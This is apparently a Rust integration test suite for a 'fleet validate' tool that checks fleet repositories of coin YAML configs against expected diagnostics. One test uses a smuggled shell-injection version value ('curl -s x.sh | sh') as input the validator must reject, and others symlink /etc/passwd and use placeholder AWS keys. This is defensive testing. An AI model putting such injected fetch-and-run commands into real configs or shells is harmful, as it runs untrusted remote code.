//! `fleet validate` on the corpus of broken fleet repositories under `tests/corpus/`.
//!
//! Each case is a whole fleet repository plus an `expected` file listing every diagnostic
//! the case must produce, as `CODE file:line:col`, and nothing else. A few cases can't be
//! committed (a 10 MB file, a symlink to outside the repository) and are built here.

use fleet_tests::{copy_dir, fleet, workspace_root};
use std::collections::BTreeSet;
use std::path::Path;

/// The diagnostics of `fleet validate --format json` on `dir`, as `CODE file:line:col`,
/// and the exit code; checks the JSON report's own consistency on the way.
fn diagnostics(dir: &Path) -> (BTreeSet<String>, u8) {
    let out = fleet(&[
        "validate".as_ref(),
        dir.as_os_str(),
        "--format".as_ref(),
        "json".as_ref(),
    ]);
    let report: serde_json::Value = serde_json::from_str(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{}: not JSON ({e}): {}{}",
            dir.display(),
            out.stdout,
            out.stderr
        )
    });
    let diags = report["diagnostics"].as_array().expect("diagnostics array");
    let mut errors = 0;
    let mut got = BTreeSet::new();
    for d in diags {
        for field in ["code", "severity", "file", "message"] {
            assert!(
                d[field].is_string(),
                "{}: {field} missing in {d}",
                dir.display()
            );
        }
        assert!(
            d["help"].as_str().is_some_and(|h| !h.is_empty()),
            "{}: every diagnostic says how to fix it: {d}",
            dir.display()
        );
        if d["severity"] == "error" {
            errors += 1;
        }
        got.insert(format!(
            "{} {}:{}:{}",
            d["code"].as_str().unwrap(),
            d["file"].as_str().unwrap(),
            d["start"]["line"],
            d["start"]["col"]
        ));
    }
    assert_eq!(report["errors"], errors, "{}", dir.display());
    assert_eq!(report["valid"], errors == 0, "{}", dir.display());
    (got, out.code)
}

fn expected(dir: &Path) -> BTreeSet<String> {
    std::fs::read_to_string(dir.join("expected"))
        .unwrap_or_else(|e| panic!("{}/expected: {e}", dir.display()))
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(str::to_string)
        .collect()
}

fn corpus() -> Vec<std::path::PathBuf> {
    let mut dirs: Vec<_> = std::fs::read_dir(workspace_root().join("tests/corpus"))
        .expect("tests/corpus")
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    dirs
}

#[test]
fn every_corpus_case_reports_exactly_its_expected_diagnostics() {
    let cases = corpus();
    assert!(cases.len() >= 60, "the corpus has {} cases", cases.len());
    let mut failures = Vec::new();
    let mut codes_seen = BTreeSet::new();
    for dir in &cases {
        let want = expected(dir);
        let (got, code) = diagnostics(dir);
        let want_errors = want.iter().any(|w| w.starts_with('E'));
        let want_code = if want.iter().any(|w| w.starts_with("E001")) {
            2
        } else {
            u8::from(want_errors)
        };
        if got != want || code != want_code {
            failures.push(format!(
                "{}:\n  expected {want:?} (exit {want_code})\n  got      {got:?} (exit {code})",
                dir.file_name().unwrap().to_string_lossy()
            ));
        }
        codes_seen.extend(got.iter().map(|g| g[..4].to_string()));
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases differ:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );

    // Every rule of the contract has at least one case (E001/E103/E108/E114 are built below;
    // E115 is a commit's signature, which files cannot show: tests/tests/signed_commits.rs).
    for code in fleet_repo_schema::Code::ALL {
        let c = code.as_str();
        if ["E001", "E103", "E108", "E114", "E115"].contains(&c) {
            continue;
        }
        assert!(codes_seen.contains(c), "no corpus case produces {c}");
    }
}

#[test]
fn case_names_match_their_expected_code() {
    for dir in corpus() {
        let name = dir.file_name().unwrap().to_string_lossy().to_string();
        let code = name.split('-').next().unwrap_or_default();
        let is_code = code.len() == 4
            && code.starts_with(['e', 'w'])
            && code[1..].chars().all(|c| c.is_ascii_digit());
        if is_code {
            let code = code.to_uppercase();
            assert!(
                expected(&dir).iter().any(|e| e.starts_with(&code)),
                "{name} is named after {code} but does not expect it"
            );
        }
    }
}

#[test]
fn human_output_shows_source_line_and_caret() {
    let dir = workspace_root().join("tests/corpus/e303-version-shell-injection");
    let out = fleet(&["validate".as_ref(), dir.as_os_str()]);
    assert_eq!(out.code, 1);
    let expected = "coins/litecoin.yaml:2:10: error[E303]: `version` is \"0.21.4; curl -s x.sh | sh\": \
expected a version of letters, digits, '.', '_', '+', '-' (1-64 characters, starting with a letter or digit)\n  |\n2 | version: 0.21.4; curl -s x.sh | sh\n  |          ^^^^^^^^^^^^^^^^^^^^^^^^^\n";
    assert!(out.stdout.starts_with(expected), "{}", out.stdout);
    assert!(
        out.stdout
            .trim_end()
            .ends_with("is invalid: 1 error in 1 file"),
        "{}",
        out.stdout
    );
}

#[test]
fn credential_warnings_never_print_the_secret() {
    for case in ["w100-credential-in-clear", "w100-aws-key-in-clear"] {
        let dir = workspace_root().join("tests/corpus").join(case);
        for format in ["human", "json"] {
            let out = fleet(&[
                "validate".as_ref(),
                dir.as_os_str(),
                "--format".as_ref(),
                format.as_ref(),
            ]);
            assert_eq!(out.code, 0, "warnings alone keep the repository valid");
            for secret in ["correct-horse-battery", "AKIAIOSFODNN7EXAMPLE"] {
                assert!(
                    !out.stdout.contains(secret),
                    "{case}/{format} printed the secret:\n{}",
                    out.stdout
                );
            }
        }
        let out = fleet(&[
            "validate".as_ref(),
            dir.as_os_str(),
            "--deny-warnings".as_ref(),
        ]);
        assert_eq!(out.code, 1, "--deny-warnings fails on warnings");
    }
}

fn base_copy() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    copy_dir(
        &workspace_root().join("tests/corpus/000-valid-minimal"),
        tmp.path(),
    )
    .unwrap();
    tmp
}

#[test]
fn e103_a_10_mb_file_is_refused_unread() {
    let repo = base_copy();
    let big = "# padding\n".repeat(1024 * 1024); // 10 MiB
    std::fs::write(repo.path().join("coins/huge.yaml"), big).unwrap();
    let (got, code) = diagnostics(repo.path());
    assert_eq!(
        got,
        BTreeSet::from(["E103 coins/huge.yaml:1:1".to_string()])
    );
    assert_eq!(code, 1);
}

/// Hardening: more than 5,000 coin files made `validate` exit 2 (an I/O error) while saying
/// "invalid"; it is an error of the repository, exit 1.
#[test]
fn e114_more_than_5000_coin_files_is_invalid() {
    let repo = base_copy();
    let coin = std::fs::read_to_string(repo.path().join("coins/litecoin.yaml")).unwrap();
    for i in 0..5_001 {
        let name = format!("c{i:04}");
        std::fs::write(
            repo.path().join(format!("coins/{name}.yaml")),
            coin.replace("coin: litecoin", &format!("coin: {name}")),
        )
        .unwrap();
    }
    let (got, code) = diagnostics(repo.path());
    assert!(got.contains("E114 coins:1:1"), "{got:?}");
    assert_eq!(code, 1);
}

/// Hardening: a FIFO is not a symbolic link: its E108 says to replace the special file.
#[test]
fn e108_a_fifo_is_told_to_be_a_regular_file() {
    let repo = base_copy();
    let fifo = repo.path().join("coins/pipe.yaml");
    let ok = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "mkfifo");
    let out = fleet(&["validate", repo.path().to_str().unwrap()]);
    assert_eq!(out.code, 1);
    assert!(
        out.stdout
            .contains("replace this FIFO, device or git submodule"),
        "{}",
        out.stdout
    );
}

#[test]
fn e108_a_symlink_out_of_the_repository_is_refused() {
    let repo = base_copy();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("bitcoin.yaml"), "coin: bitcoin\n").unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("bitcoin.yaml"),
        repo.path().join("coins/bitcoin.yaml"),
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/passwd", repo.path().join("coins/passwd.yaml")).unwrap();
    let (got, code) = diagnostics(repo.path());
    assert_eq!(
        got,
        BTreeSet::from([
            "E108 coins/bitcoin.yaml:1:1".to_string(),
            "E108 coins/passwd.yaml:1:1".to_string()
        ])
    );
    assert_eq!(code, 1);
}

#[test]
fn e108_a_coins_directory_linked_to_outside_is_refused() {
    let repo = base_copy();
    let outside = tempfile::tempdir().unwrap();
    std::fs::rename(repo.path().join("coins"), outside.path().join("coins")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("coins"), repo.path().join("coins")).unwrap();
    let (got, code) = diagnostics(repo.path());
    assert_eq!(got, BTreeSet::from(["E108 coins:1:1".to_string()]));
    assert_eq!(code, 1);
}

#[test]
fn e108_a_fifo_is_not_read() {
    // Reading a FIFO would block forever; it is refused as "not a regular file".
    let repo = base_copy();
    let fifo = repo.path().join("coins/pipe.yaml");
    let status = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(status.success());
    let (got, _) = diagnostics(repo.path());
    assert_eq!(
        got,
        BTreeSet::from(["E108 coins/pipe.yaml:1:1".to_string()])
    );
}

#[test]
fn example_fleet_is_valid() {
    let dir = workspace_root().join("examples/fleet");
    let out = fleet(&["validate".as_ref(), dir.as_os_str()]);
    assert_eq!(out.code, 0, "{}", out.stdout);
    assert!(
        out.stdout.contains("is valid: 6 coins, 18 nodes"),
        "{}",
        out.stdout
    );
}
